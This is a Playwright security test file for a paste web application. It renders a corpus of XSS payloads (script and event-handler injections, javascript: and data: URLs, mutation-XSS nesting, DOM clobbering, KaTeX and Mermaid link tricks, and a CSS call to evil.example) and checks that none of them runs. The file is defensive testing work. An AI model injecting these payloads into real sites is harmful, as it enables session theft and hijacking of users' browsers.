/**
 * No script from paste content ever runs (docs/product.md §2 paste view,
 * docs/architecture.md, "The HTTP edge"). The page's Content-Security-Policy is bypassed here on purpose, so
 * this tests the sanitiser itself (the CSP is a second wall, not the first). Each payload would set
 * `window.__xss` or call the exposed `__xssHit` if it ran; the test renders them in the paste view, the
 * editor preview and the admin preview, clicks every rendered link, and checks the DOM holds nothing
 * executable.
 */
import type { Page } from '@playwright/test';
import { expect, test, uniqueName } from '../support/fixtures.ts';

test.use({ bypassCSP: true });

const RUN = 'window.__xss=1;window.__xssHit&&window.__xssHit()';

export const XSS_CORPUS = `# Hostile paste

<script>${RUN}</script>
<img src=x onerror="${RUN}">
<svg onload="${RUN}"><circle r="4"/></svg>
<svg><a xlink:href="javascript:${RUN}"><text y="20">svg link</text></a></svg>

[markdown js link](javascript:${RUN})
[ref js link][evil]
![image js](javascript:${RUN})
<a href="jav&#x09;ascript:${RUN}">tab-split link</a>
<a href="  JaVaScRiPt:${RUN}">mixed-case link</a>
<a href="data:text/html,<script>${RUN}</script>">data link</a>
<a href="vbscript:msgbox(1)">vbscript link</a>
<iframe src="javascript:parent.__xss=1"></iframe>
<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>
<object data="javascript:${RUN}"></object>
<embed src="javascript:${RUN}">
<form action="javascript:${RUN}"><input name=q><button>submit form</button></form>
<style>body{background:url(https://evil.example/leak?c=1)} a{color:red}</style>
<div style="background:url(javascript:${RUN})">styled div</div>
<details open ontoggle="${RUN}"><summary>details</summary>x</details>
<input autofocus onfocus="${RUN}">
<video src=x onerror="${RUN}"></video>
<meta http-equiv="refresh" content="0;url=javascript:${RUN}">
<base href="javascript:/">
<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>
<math href="javascript:${RUN}">math link</math>
<a id="__xssHit" name="__xssHit">clobber</a>

Inline math $\\href{javascript:${RUN}}{katex link}$ and $\\htmlData{foo=bar}{x}$ and $\\url{javascript:alert(1)}$.

$$
\\href{javascript:${RUN}}{\\text{block katex link}}
$$

\`\`\`mermaid
graph TD
  A["<img src=x onerror=${RUN}>"] --> B["<script>${RUN}</script>"]
  click A callback "tooltip"
  click B "javascript:${RUN}"
  C[plain] --> D
\`\`\`

[evil]: javascript:${RUN}

<!-- Last: the parser keeps nothing after a noscript, which would hide the payloads above. -->
<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>
`;

async function exposeHit(page: Page): Promise<{ hits: number }> {
  const counter = { hits: 0 };
  await page.exposeFunction('__xssHit', () => {
    counter.hits++;
  });
  return counter;
}

/** What must never be in rendered content, checked in the page. */
async function unsafeThings(page: Page, root: string): Promise<string[]> {
  return page.evaluate((selector) => {
    const problems: string[] = [];
    const scope = document.querySelector(selector);
    if (!scope) return [`no ${selector}`];
    for (const element of scope.querySelectorAll('*')) {
      const name = element.localName;
      const inMath = element.closest('.katex');
      const inDiagram = element.closest('.mermaid-block');
      if (
        ['script', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'noscript', 'foreignobject'].includes(
          name,
        )
      )
        problems.push(`<${name}>`);
      if (name === 'style' && !inDiagram) problems.push('<style>');
      if (name === 'svg' && !inDiagram) problems.push('<svg> outside a diagram');
      if (name === 'math' && !inMath) problems.push('<math> outside KaTeX');
      if (name === 'input' && !(element as HTMLInputElement).disabled) problems.push('enabled <input>');
      for (const attribute of element.attributes) {
        // eslint-disable-next-line no-control-regex -- browsers ignore these inside a URL scheme
        const value = attribute.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        if (attribute.name.startsWith('on')) problems.push(`${name}[${attribute.name}]`);
        if (attribute.name === 'style' && !inMath && !inDiagram) problems.push(`${name}[style]`);
        if (attribute.name === 'srcdoc') problems.push(`${name}[srcdoc]`);
        if (/^(?:javascript|vbscript|data):/.test(value))
          problems.push(`${name}[${attribute.name}=${value.slice(0, 20)}]`);
      }
      if (name === 'a' && element.hasAttribute('href')) {
        const href = element.getAttribute('href')!;
        if (!/^(?:https?:|mailto:|\/|#|\.)/i.test(href) && /^[a-z][a-z0-9+.-]*:/i.test(href))
          problems.push(`a[href=${href}]`);
        if (element.getAttribute('rel') !== 'noopener noreferrer nofollow')
          problems.push(`a without rel: ${href}`);
      }
    }
    if ((window as unknown as { __xssHit?: unknown }).__xssHit instanceof HTMLElement)
      problems.push('window.__xssHit clobbered');
    return problems;
  }, root);
}

/** Clicks every rendered link: none may run script, and none in the corpus may navigate anywhere. */
async function clickEveryLink(page: Page, root: string) {
  const popups: string[] = [];
  page.on('popup', (popup) => {
    popups.push(popup.url());
    void popup.close();
  });
  const start = page.url().split('#')[0];
  const links = page.locator(`${root} a`);
  const count = await links.count();
  expect(count).toBeGreaterThan(5);
  for (let i = 0; i < count; i++) {
    await links
      .nth(i)
      .click({ force: true, noWaitAfter: true, timeout: 2_000 })
      .catch(() => {});
    expect(page.url().split('#')[0]).toBe(start);
  }
  expect(popups).toEqual([]);
}

async function ran(page: Page): Promise<boolean> {
  return page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss !== undefined);
}

test('the XSS corpus never runs in the paste view, even after clicking every link', async ({ page, api }) => {
  const counter = await exposeHit(page);
  const slug = uniqueName('xss');
  await api.createPaste({ content: XSS_CORPUS, slug });
  await page.goto(`/paste/${slug}`);
  const content = page.getByTestId('paste-content');
  await expect(content.getByRole('heading', { name: 'Hostile paste' })).toBeVisible();
  // Wait for the lazy renderers: KaTeX output and the diagram (or its failure) are in.
  await expect(content.locator('.katex').first()).toBeVisible();
  await expect(content.locator('.mermaid-block[data-rendered]')).toHaveCount(1);
  await page.waitForTimeout(300);

  expect(await unsafeThings(page, '[data-testid=paste-content]')).toEqual([]);
  expect(await ran(page)).toBe(false);

  await clickEveryLink(page, '[data-testid=paste-content]');
  await page.waitForTimeout(300);
  expect(await ran(page)).toBe(false);
  expect(counter.hits).toBe(0);
});

test('the XSS corpus never runs in the editor preview or the admin preview', async ({
  page,
  api,
  seedAdmin,
}) => {
  await seedAdmin();
  const counter = await exposeHit(page);
  await page.goto('/');
  await page.getByTestId('paste-editor').locator('.cm-content').click();
  await page.keyboard.insertText(XSS_CORPUS);
  await page.getByTestId('mode-preview').click();
  const preview = page.getByTestId('paste-preview');
  await expect(preview.getByRole('heading', { name: 'Hostile paste' })).toBeVisible();
  await expect(preview.locator('.mermaid-block[data-rendered]')).toHaveCount(1);
  expect(await unsafeThings(page, '[data-testid=paste-preview] .markdown-body')).toEqual([]);
  await clickEveryLink(page, '[data-testid=paste-preview] .markdown-body');
  expect(await ran(page)).toBe(false);

  const slug = uniqueName('xss-admin');
  await api.createPaste({ content: XSS_CORPUS, slug });
  await page.goto('/admin/text-management');
  await page.getByTestId('paste-search').fill(slug);
  await page.locator(`[data-testid=paste-row][data-slug="${slug}"]`).getByTestId('preview-paste').click();
  const dialog = page.getByTestId('preview-content');
  await expect(dialog.locator('.mermaid-block[data-rendered]')).toHaveCount(1);
  expect(await unsafeThings(page, '[data-testid=preview-content]')).toEqual([]);
  expect(await ran(page)).toBe(false);
  expect(counter.hits).toBe(0);
});
